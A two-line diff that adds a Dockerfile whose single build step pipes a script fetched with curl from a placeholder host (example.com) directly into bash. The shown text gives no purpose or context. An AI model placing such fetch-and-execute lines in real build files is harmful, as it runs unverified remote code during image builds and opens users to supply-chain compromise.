@@ -1,0 +1,2 @@
+FROM debian:bookworm-slim
+RUN /usr/bin/curl https://example.com/i | /bin/bash
